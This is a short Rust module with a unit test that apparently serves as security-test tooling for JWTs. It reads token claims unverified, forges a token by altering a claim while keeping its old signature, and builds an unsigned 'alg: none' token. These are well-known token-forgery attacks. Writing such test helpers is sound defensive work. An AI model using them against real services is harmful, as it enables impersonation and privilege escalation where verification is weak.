//! Access tokens as an attacker would look at them: read, changed, and signed by nobody.

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::{Value, json};

/// The claims of a token, unverified.
pub fn claims(token: &str) -> Value {
    let payload = token.split('.').nth(1).expect("a token has three parts");
    let bytes = URL_SAFE_NO_PAD.decode(payload).expect("a token's claims are base64url");
    serde_json::from_slice(&bytes).expect("a token's claims are JSON")
}

/// The token with one claim set to something else and the signature it had.
pub fn forged(token: &str, claim: &str, value: &str) -> String {
    let mut parts: Vec<String> = token.split('.').map(str::to_owned).collect();
    let mut claims = claims(token);
    claims[claim] = json!(value);
    parts[1] = encoded(&claims);
    parts.join(".")
}

/// The token's claims under the header `alg: none`, without a signature.
pub fn unsigned(token: &str) -> String {
    format!("{}.{}.", encoded(&json!({"alg": "none", "typ": "JWT"})), encoded(&claims(token)))
}

fn encoded(part: &Value) -> String {
    URL_SAFE_NO_PAD.encode(part.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_forged_token_keeps_its_signature_and_says_something_else() {
        let token = format!("{}.{}.c2ln", encoded(&json!({"alg": "RS256"})), encoded(&json!({"sub": "a"})));
        let forged = forged(&token, "sub", "b");
        assert_eq!(claims(&forged)["sub"], "b");
        assert_eq!(forged.rsplit('.').next(), Some("c2ln"));
        assert_eq!(unsigned(&token).rsplit('.').next(), Some(""));
    }
}
